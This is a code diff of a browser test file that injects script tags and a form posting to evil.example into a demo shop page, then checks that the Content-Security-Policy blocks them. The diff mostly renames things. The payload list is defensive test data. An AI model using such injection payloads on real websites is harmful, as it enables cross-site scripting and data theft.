@@ -1,12 +1,12 @@
 import { expect, test } from 'vitest';
-import { askHost } from './ask.ts';
 import { shareBrowser } from './browser.ts';
 import { glina } from './demo-shops.ts';
+import { requestHost } from './request-host.ts';
 import { addressOf, shopPort } from './shopper.ts';
 
 const open = shareBrowser();
 
-/** What a shop's text could hold if nothing cleaned it; also dressed up as the code that our own page holds back. */
+/** What a shop's text could contain if it were not sanitized. Our pages defer their own scripts with `type="later"`. */
 const injected = [
   '<script>globalThis.stolen = "script"</script>',
   '<script type="module">globalThis.stolen = "module"</script>',
@@ -22,10 +22,10 @@ const injected = [
   '<form action="https://evil.example/"><button id="send">x</button></form>',
 ];
 
-test('what gets past the cleaning does not run', async () => {
+test('the Content-Security-Policy stops injected scripts, frames, forms and base addresses', async () => {
   const { page, context } = await open();
   await context.route(addressOf(glina, '/about'), async (route) => {
-    const { status, headers, text } = await askHost(shopPort(), glina.host, '/about');
+    const { status, headers, text } = await requestHost(shopPort(), glina.host, '/about');
     const policy = String(headers['content-security-policy']);
     await route.fulfill({
       status,
@@ -33,9 +33,9 @@ test('what gets past the cleaning does not run', async () => {
       body: text.replace('<main', `${injected.join('')}<main`),
     });
   });
-  const left: string[] = [];
+  const leaked: string[] = [];
   await context.route('https://evil.example/**', (route) => {
-    left.push(route.request().url());
+    leaked.push(route.request().url());
     return route.abort();
   });
   await page.goto(addressOf(glina, '/about'));
@@ -45,6 +45,6 @@ test('what gets past the cleaning does not run', async () => {
   await page.evaluate(() => document.querySelector<HTMLElement>('#send')?.click());
   expect(await page.evaluate(() => Reflect.get(globalThis, 'stolen'))).toBeUndefined();
   expect(await page.evaluate(() => document.baseURI)).toContain(glina.host);
-  expect(left).toEqual([]);
+  expect(leaked).toEqual([]);
   await context.close();
 });
